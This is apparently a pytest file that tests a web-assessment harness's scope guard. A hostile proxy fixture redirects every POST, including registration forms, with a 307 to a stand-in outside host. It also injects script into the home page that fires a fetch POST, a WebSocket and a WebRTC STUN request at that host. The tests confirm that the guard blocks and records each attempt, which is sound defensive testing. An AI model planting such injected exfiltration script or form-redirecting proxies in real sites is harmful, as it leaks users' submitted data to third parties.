"""Nothing leaves the profile's `allowed_hosts`: a hostile proxy in front of the reference site
answers every POST with a 307 to an outside server (a second listener on 127.0.0.2) and sends
the complaint page away through two redirects; its home page carries an outside link, image,
fetch, WebSocket and WebRTC peer (STUN over UDP). Through the pages (a registration, the
complaint web form, the complaint-page crawler) and through the API, the outside server
receives nothing and every refusal is recorded as a scope violation naming its host.

One browser and about a dozen page loads (a few seconds); the reference site is a subprocess.
"""

from __future__ import annotations

import contextlib
import http.client
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error as PlaywrightError

from harness import reference
from harness.observe.flow import new_account
from harness.observe.reports import find_complaint_page
from harness.reference import ADMIN_TOKEN_ENV
from harness.targets.api import Actor, ApiTarget
from harness.targets.browser import BrowserTarget
from harness.targets.profile import REFERENCE_PROFILE, load_profile
from harness.targets.scope import Sinkhole

OUTSIDE_HOST = "127.0.0.2"
HOP_HEADERS = {"connection", "keep-alive", "transfer-encoding", "content-length",
               "content-encoding", "proxy-connection", "upgrade"}


@dataclass
class Outside:
    """The server no request may reach: it records whatever arrives."""

    url: str
    udp_port: int
    seen: list[tuple[str, str, int]] = field(default_factory=list)  # method, path, body bytes
    datagrams: list[bytes] = field(default_factory=list)  # what reached its UDP port (STUN)


class _OutsideHandler(BaseHTTPRequestHandler):
    server: Any

    def log_message(self, *args: Any) -> None:
        pass

    def _any(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.record.seen.append((self.command, self.path, len(body)))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = do_POST = do_PUT = do_PATCH = do_HEAD = do_OPTIONS = _any


class _ProxyHandler(BaseHTTPRequestHandler):
    """Forwards to the reference site, except: every POST is answered 307 to the outside
    server (re-posting the form or JSON there); /complaints goes there through two 302s; the
    home page gains an outside link, image and fetch."""

    server: Any

    def log_message(self, *args: Any) -> None:
        pass

    def _redirect(self, status: int, location: str) -> None:
        self.send_response(status)
        self.send_header("Location", location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)  # read, never forwarded
        self._redirect(307, self.server.outside + self.path)

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        if path == "/complaints":
            return self._redirect(302, "/hop-out")
        if path == "/hop-out":
            return self._redirect(302, self.server.outside + "/complaints")
        upstream = http.client.HTTPConnection(*self.server.site, timeout=15)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in HOP_HEADERS}
        upstream.request("GET", self.path, headers={**headers, "Accept-Encoding": "identity"})
        answer = upstream.getresponse()
        body = answer.read()
        upstream.close()
        if path == "/" and "text/html" in answer.getheader("Content-Type", ""):
            outside = self.server.outside
            body = body.replace(b"<body>", (
                f'<body><a href="{outside}/injected-link">投诉举报 Complaints (elsewhere)</a>'
                f'<img src="{outside}/injected-image.png" alt="">'
                f'<script>fetch("{outside}/injected-fetch", {{method: "POST", body: "x"}})'
                f'.catch(() => null);'
                f'try {{ new WebSocket("{outside.replace("http", "ws")}/injected-socket"); }}'
                f'catch (e) {{}}'
                f'try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: '
                f'"stun:{OUTSIDE_HOST}:{self.server.udp_port}"}}]}}); pc.createDataChannel("x");'
                f' pc.createOffer().then(o => pc.setLocalDescription(o)); }} catch (e) {{}}'
                f'</script>').encode(), 1)
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            if name.lower() not in HOP_HEADERS:
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def _listen_udp(outside: Outside, udp: socket.socket, stop: threading.Event) -> None:
    udp.settimeout(0.1)
    while not stop.is_set():
        with contextlib.suppress(TimeoutError):
            outside.datagrams.append(udp.recv(2048))


def _serve(server: ThreadingHTTPServer) -> ThreadingHTTPServer:
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    """The reference site behind the hostile proxy, and the outside server."""
    site = reference.start(log=tmp_path_factory.mktemp("site") / "site.log")
    outside_server = _serve(ThreadingHTTPServer((OUTSIDE_HOST, 0), _OutsideHandler))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((OUTSIDE_HOST, 0))
    outside = Outside(f"http://{OUTSIDE_HOST}:{outside_server.server_address[1]}",
                      udp.getsockname()[1])
    outside_server.record = outside  # type: ignore[attr-defined]
    stop = threading.Event()
    threading.Thread(target=_listen_udp, args=(outside, udp, stop), daemon=True).start()
    proxy = _serve(ThreadingHTTPServer(("127.0.0.1", 0), _ProxyHandler))
    host, port = site.url.split("//", 1)[1].split(":")
    proxy.site = (host, int(port))  # type: ignore[attr-defined]
    proxy.outside = outside.url  # type: ignore[attr-defined]
    proxy.udp_port = outside.udp_port  # type: ignore[attr-defined]
    try:
        yield SimpleNamespace(site=site, outside=outside,
                              url=f"http://127.0.0.1:{proxy.server_address[1]}")
    finally:
        stop.set()
        proxy.shutdown()
        outside_server.shutdown()
        udp.close()
        site.stop()


@pytest.fixture
def profile(hostile: SimpleNamespace, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv(ADMIN_TOKEN_ENV, hostile.site.admin_token)
    loaded = load_profile(REFERENCE_PROFILE, base_url=hostile.url)
    assert loaded.allowed_hosts == ("127.0.0.1", "localhost")
    return loaded


@pytest.fixture
def pages(profile: Any, harness_browser: Any) -> Iterator[BrowserTarget]:
    target = BrowserTarget(profile, harness_browser, ApiTarget(profile))
    target.begin_case(lambda *_: None, tracing="off", screenshots="off", har="off")
    try:
        yield target
    finally:
        target.end_case(False, lambda data: data)
        target.close()


def _outside_of(violations: list[dict[str, str]]) -> list[dict[str, str]]:
    assert all(v["host"] == OUTSIDE_HOST for v in violations), violations
    return violations


def test_a_form_reposted_elsewhere_never_leaves_the_browser(hostile, pages):
    author = Actor("author", "scope-device-author")
    account = new_account("author", 11, "scope")
    result = pages.register(author, account)
    assert not result.ok
    # The complaint web form, filled and sent as the profile says (its selects keep their
    # defaults: choosing by label first waits out a timeout on this site).
    steps = [step for step in pages.section["reports"]["complaints"]["form"]
             if "fill" in step or step.get("click", {}) == {"role": "button",
                                                            "name": "提交举报 Submit report"}]
    form = pages.run_steps(
        [{"as": "reporter", "goto": "/report"}, *({"as": "reporter", **s} for s in steps)],
        {"post_id": "1", "reason": "scope guard check"},
        {"reporter": Actor("reporter", "scope-device-reporter")}, {})
    assert form[-1].method == "CLICK"
    violations = _outside_of(pages.take_violations())
    assert hostile.outside.seen == []
    posted = {(v["url"].removeprefix(hostile.outside.url), v["actor"])
              for v in violations if v["method"] == "POST"}
    assert posted == {("/register", "author"), ("/report", "reporter")}
    assert all(v["resource_type"] == "document" and v["channel"] == "browser"
               for v in violations)
    assert not any(account["password"] in str(v) for v in violations)
    assert pages.take_violations() == []


def test_the_crawler_and_its_pages_stay_on_the_site(hostile, pages, profile):
    desk = SimpleNamespace(pages=profile.data["browser"]["reports"],
                           admin=SimpleNamespace(profile=profile), target=pages)
    visitor = Actor("anonymous", "scope-device-anonymous")
    found, opened, _ = find_complaint_page(desk, "/", visitor, max_clicks=1, max_pages=3)
    assert found is None  # the complaint page is only reachable by leaving the site
    assert opened >= 2
    violations = _outside_of(pages.take_violations())
    assert hostile.outside.seen == []
    by_path = {urlsplit(v["url"]).path: v for v in violations}
    assert "/injected-link" not in by_path  # the crawler never followed the outside link
    assert by_path["/complaints"]["reason"].startswith(f"redirected there by {hostile.url}")
    assert by_path["/injected-image.png"]["resource_type"] == "image"
    assert by_path["/injected-fetch"]["method"] == "POST"
    assert by_path["/injected-socket"]["resource_type"] == "websocket"
    assert {v["actor"] for v in violations} == {"anonymous"}
    deadline = time.monotonic() + 1.0  # a STUN request would have come within milliseconds
    while time.monotonic() < deadline and not hostile.outside.datagrams:
        time.sleep(0.05)
    assert hostile.outside.datagrams == []


def test_the_api_channel_refuses_the_redirect_and_records_it(hostile, profile):
    with ApiTarget(profile) as api:
        actor = Actor("author", "scope-device-api")
        exchange = api.register(actor, new_account("author", 12, "scope"))
        assert exchange.status == 307
        [record] = api.take_violations()
    assert hostile.outside.seen == []
    assert record["url"] == hostile.outside.url + "/api/register"
    assert (record["host"], record["actor"], record["channel"]) == (OUTSIDE_HOST, "author",
                                                                    "api")


def test_redirect_hops_reach_no_route_handler_after_a_fulfilled_3xx(hostile, harness_browser):
    # Why the network guard exists: a route handler that fetches a request itself and fulfils
    # the 3xx it got still never sees the hops that follow, so it cannot refuse them.
    sinkhole = Sinkhole()
    context = harness_browser.new_context(proxy=sinkhole.proxy(("127.0.0.1",)))
    routed: list[str] = []
    requested: list[str] = []

    def fetch_and_fulfil(route: Any) -> None:
        routed.append(route.request.url)
        route.fulfill(response=route.fetch(max_redirects=0))

    try:
        context.route("**/*", fetch_and_fulfil)
        context.on("request", lambda request: requested.append(request.url))
        page = context.new_page()
        with contextlib.suppress(PlaywrightError):
            page.goto(hostile.url + "/complaints")
    finally:
        context.close()
        sinkhole.close()
    assert routed == [hostile.url + "/complaints"]
    assert requested == [hostile.url + "/complaints", hostile.url + "/hop-out",
                         hostile.outside.url + "/complaints"]
    assert hostile.outside.seen == []  # the sinkhole refused the last hop


def test_an_assessment_behind_the_proxy_ends_with_the_configuration_code(
        hostile, tmp_path, monkeypatch):
    """Through `harness assess`: what the guard stopped is in the evidence, by host, and the
    run exits 2 naming it; the outside server still received nothing."""
    import subprocess
    import sys

    from harness.evidence import read_entries
    from harness.verdicts import EXIT_USAGE

    before = len(hostile.outside.seen), len(hostile.outside.datagrams)
    monkeypatch.setenv(ADMIN_TOKEN_ENV, hostile.site.admin_token)
    out = tmp_path / "runs"
    done = subprocess.run(
        [sys.executable, "-m", "harness.cli", "assess", "--base-url", hostile.url, "--out",
         str(out), "--channel", "browser", "--control", "A5.6-PUBLISHED"],
        capture_output=True, text=True, timeout=600, check=False)
    assert done.returncode == EXIT_USAGE, done.stdout[-3000:] + done.stderr[-2000:]
    assert OUTSIDE_HOST in done.stdout
    (run_dir,) = [p for p in out.iterdir() if p.is_dir() and not p.is_symlink()]
    violations = [e for e in read_entries(run_dir) if e["entry_type"] == "scope_violation"]
    assert violations
    assert {v["host"] for v in violations} == {OUTSIDE_HOST}
    assert (len(hostile.outside.seen), len(hostile.outside.datagrams)) == before
